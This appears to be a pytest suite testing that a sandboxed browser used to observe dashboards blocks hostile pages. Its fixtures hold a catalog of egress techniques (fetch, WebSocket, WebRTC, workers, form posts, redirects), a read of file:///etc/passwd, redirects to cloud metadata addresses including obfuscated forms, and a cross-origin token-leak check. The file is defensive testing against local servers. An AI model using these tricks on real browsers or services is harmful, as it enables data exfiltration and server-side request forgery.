"""Hostile pages cause no connection to any other origin."""

import asyncio
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from local_egress import local_proxies

from adapters.browser.browser_pool import BrowserPool
from adapters.browser.budget import Budget
from adapters.browser.egress_proxy import EgressAllowance
from adapters.browser.origins import origin_of
from adapters.dashboards.page.navigation import add_headers
from adapters.dashboards.page.observer import DashboardObserver
from adapters.dashboards.products.registry import dashboard_for
from missions.errors import BrowserError
from missions.evidence import PanelState
from missions.plan import Visit

VisitOf = Callable[..., Visit]

TRICKS = """<!doctype html>
<link rel=prefetch href="{e}/prefetch"><link rel=preconnect href="{e}">
<link rel=stylesheet href="{e}/style.css">
<link rel=preload as=image href="{e}/preload"><script src="{e}/script.js"></script>
<img src="{e}/image"><img src="/redirect"><iframe src="{e}/frame"></iframe><iframe src="/redirect"></iframe>
<object data="{e}/object"></object><video src="{e}/video"></video>
<iframe srcdoc="<img src={e}/srcdoc>"></iframe>
<section data-panel-id=p data-state=loading></section>
<script>
const quiet = attempt => {{ try {{ const done = attempt(); done?.catch?.(() => 0); }} catch {{}} }};
quiet(() => fetch('{e}/fetch', {{mode: 'no-cors'}}));
quiet(() => fetch('/redirect', {{mode: 'no-cors'}}));
quiet(() => fetch('{other}/localhost', {{mode: 'no-cors'}}));
quiet(() => fetch('file:///etc/passwd'));
quiet(() => navigator.sendBeacon('{e}/beacon', 'x'));
quiet(() => new EventSource('{e}/events'));
quiet(() => new WebSocket('{ws}/socket'));
quiet(() => new WebTransport('{e}/transport'));
quiet(() => window.open('{e}/popup'));
quiet(() => window.open('{e}/opener', '_blank', 'noopener'));
quiet(() => navigator.serviceWorker.register('/worker.js'));
quiet(() => new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}, {{urls:
  'turn:127.0.0.1:{port}?transport=tcp', username: 'u', credential: 'c'}}]}}).createDataChannel('x'));
const form = document.createElement('form');
Object.assign(form, {{action: '{e}/form', method: 'post', target: 'name'}});
document.body.append(form); form.submit();
const worker = new Worker('/worker.js');
worker.onmessage = () => document.querySelector('section').dataset.state = 'empty';
</script>"""

WORKER = """
const socket = new WebSocket('{ws}/worker-socket');
const closed = new Promise(done => {{ socket.onerror = socket.onclose = done; }});
const asked = fetch('{e}/worker-fetch', {{mode: 'no-cors'}}).catch(() => 0);
Promise.all([closed, asked]).then(() => postMessage('tried'));
"""


def ignore(_: str) -> None:
    """A progress callback that does nothing."""


def redirect(where: str) -> Callable[[web.Request], Any]:
    async def handler(_: web.Request) -> web.Response:
        raise web.HTTPFound(where)

    return handler


async def test_br1_nothing_on_a_page_reaches_another_port(
    site: Any, elsewhere: Any, observer: DashboardObserver, pool: BrowserPool, visit_of: VisitOf
) -> None:
    """Two dozen techniques, including workers and redirects, cause no connection, and are counted."""
    names = {
        "e": elsewhere.url,
        "ws": elsewhere.url.replace("http", "ws"),
        "port": elsewhere.port,
        "other": f"http://localhost:{elsewhere.port}",
    }
    site.html("/", TRICKS.format(**names))
    site.routes["/redirect"] = redirect(f"{elsewhere.url}/redirected")

    async def worker(_: web.Request) -> web.Response:
        return web.Response(text=WORKER.format(**names), content_type="text/javascript")

    site.routes["/worker.js"] = worker
    result = await observer.visit(visit_of(site, "p"), ignore)
    assert result.sighting.state is PanelState.EMPTY, "the page did not try both of the worker's techniques"
    assert elsewhere.connections == 0
    assert "requests to other origins were blocked" in result.sighting.reason
    origin = origin_of(site.url)
    assert origin is not None
    async with pool.context({origin}) as tab:
        await tab.page.goto(site.url)
        await tab.page.wait_for_selector("[data-state=empty]", state="attached")
        paths = {url.rpartition("/")[2] for url in tab.egress.blocked}
    assert {"image", "fetch", "socket", "worker-socket", "frame", "redirected"} <= paths, paths
    assert elsewhere.connections == 0
    other = origin_of(elsewhere.url)
    assert other is not None
    async with pool.context({origin, other}) as tab:
        await tab.page.goto(site.url)
        await tab.page.wait_for_selector("[data-state=empty]", state="attached")
    assert elsewhere.connections > 0, "the control did not connect although it was allowed"


@pytest.mark.parametrize("how", ["redirect", "script", "meta", "late"])
async def test_br3_a_page_that_leaves_is_a_typed_failure_at_once(
    site: Any, elsewhere: Any, observer: DashboardObserver, visit_of: VisitOf, how: str
) -> None:
    """A redirect to another origin is blocked within 2 s, without a connection."""
    there = f"{elsewhere.url}/there?secret=1"
    site.routes["/redirect"] = redirect(there)
    site.html("/script", f"<script>location = '{there}'</script>")
    site.html("/meta", f"<meta http-equiv=refresh content='0;url={there}'>")
    site.html("/late", f"<script>setTimeout(() => location = '{there}', 300)</script>")
    started = time.monotonic()
    with pytest.raises(BrowserError, match="blocked: the page tried to leave for") as caught:
        await observer.visit(visit_of(site, "p", path=f"/{how}"), ignore)
    assert time.monotonic() - started < 2
    assert "secret" not in str(caught.value)
    assert elsewhere.connections == 0


async def test_br3_dialogs_downloads_and_popups_are_harmless(
    site: Any, pool: BrowserPool, observer: DashboardObserver, visit_of: VisitOf
) -> None:
    """Dialogs are dismissed, downloads refused, popups closed and permissions denied."""

    async def attached(_: web.Request) -> web.Response:
        return web.Response(body=b"x", headers={"Content-Disposition": "attachment; filename=evil.sh"})

    site.routes["/file"] = attached
    site.html("/popup", "<p>popup</p>")
    site.html(
        "/",
        """<section data-panel-id=p data-state=loading></section><script>
        alert('a'); const said = [confirm('b'), prompt('c')]; onbeforeunload = () => 'stay';
        open('/popup'); open('/popup', '_blank', 'noopener');
        const link = Object.assign(document.createElement('a'), {href: '/file', download: 'evil.sh'});
        document.body.append(link); link.click();
        navigator.geolocation.getCurrentPosition(() => said.push('place'), () => {
          document.title = JSON.stringify([...said, Notification.permission]);
          document.querySelector('section').dataset.state = 'empty'; });
        </script>""",
    )
    result = await observer.visit(visit_of(site, "p"), ignore)
    assert result.sighting.state is PanelState.EMPTY
    origin = origin_of(site.url)
    assert origin is not None
    async with pool.context({origin}) as tab:
        await tab.page.goto(site.url)
        await tab.page.wait_for_selector("[data-state=empty]", state="attached")
        assert await tab.page.title() == '[false,null,"denied"]'
        for popup in tab.page.context.pages[1:]:
            await popup.wait_for_event("close", timeout=2000)
        assert tab.page.context.pages == [tab.page]
    with pytest.raises(BrowserError, match=r"unreachable: .*Download is starting"):
        await observer.visit(visit_of(site, path="/file"), ignore)


async def test_br1_a_redirect_to_a_metadata_address_is_blocked(
    site: Any, observer: DashboardObserver, visit_of: VisitOf
) -> None:
    """A redirect to a metadata address is blocked within 2 s, and so is a target with such an address."""
    for place in ("169.254.169.254", "[fd00:ec2::254]", "2852039166", "0xa9.0xfe.43518"):
        site.routes["/redirect"] = redirect(f"http://{place}/latest/meta-data/")
        started = time.monotonic()
        with pytest.raises(BrowserError, match="blocked: the page tried to leave for"):
            await observer.visit(visit_of(site, path="/redirect"), ignore)
        assert time.monotonic() - started < 2
    there = visit_of(site)
    for place in ("169.254.169.254", "2852039166"):
        target = there.target.model_copy(update={"base_url": f"http://{place}"})
        with pytest.raises(BrowserError, match="blocked: "):
            await observer.visit(there.model_copy(update={"target": target}), ignore)


async def test_br6_a_looping_page_ends(site: Any, chromium: Path, visit_of: VisitOf) -> None:
    """A page that loads itself, sends requests or opens windows without end is stopped with a reason."""
    site.html("/loads", "<script>setTimeout(() => location.reload(), 1)</script>")
    site.html("/opens", "<script>for (let n = 0; n < 40; n++) open('/opened' + n, '_blank')</script>")
    site.html("/asks", "<script>for (let n = 0; n < 300; n++) fetch('/nothing?' + n).catch(() => 0)</script>")
    pool = BrowserPool(
        chromium,
        sandbox=False,
        slots=1,
        env={},
        proxies=local_proxies(allowance=EgressAllowance(exchanges=200)),
    )
    observer = DashboardObserver(pool, dashboard_for, Budget(ready=20.0))
    for path, what in (
        ("/loads", "loaded itself more than 20 times"),
        ("/opens", "opened more than 20 windows"),
        ("/asks", "asked for more than 200 requests"),
    ):
        with pytest.raises(BrowserError, match=f"budget_exceeded: the page {what}"):
            await observer.visit(visit_of(site, "p", path=path), ignore)
    await pool.close()


async def test_headers_go_to_one_origin_even_where_the_way_to_another_is_open(
    site: Any, second_site: Any, pool: BrowserPool
) -> None:
    """No request to another origin carries the token, even if that origin is allowed."""
    site.html(
        "/page",
        f"""<img src="{second_site.url}/img"><script src="{second_site.url}/script"></script>
        <iframe src="{second_site.url}/frame"></iframe>
        <form method=post target=inner action="{second_site.url}/form"></form><iframe name=inner></iframe>
        <script>document.forms[0].submit();
        fetch("{second_site.url}/fetch", {{mode: "no-cors"}});
        fetch("/own");</script>""",
    )
    brought: dict[str, str | None] = {}
    ways = {"/img", "/script", "/frame", "/form", "/fetch", "/own"}
    there = asyncio.Event()

    async def note(request: web.Request) -> web.Response:
        brought[request.path] = request.headers.get("Authorization")
        if ways <= brought.keys():
            there.set()
        return web.Response(text="")

    for served, paths in ((site, {"/own"}), (second_site, ways - {"/own"})):
        served.routes |= dict.fromkeys(paths, note)
    origins = {origin for served in (site, second_site) if (origin := origin_of(served.url)) is not None}
    async with pool.context(origins) as tab:
        await add_headers(tab.page, site.url, {"Authorization": "Bearer canary"})
        await tab.page.goto(f"{site.url}/page")
        async with asyncio.timeout(20):
            await there.wait()
    assert brought == {path: "Bearer canary" if path == "/own" else None for path in ways}
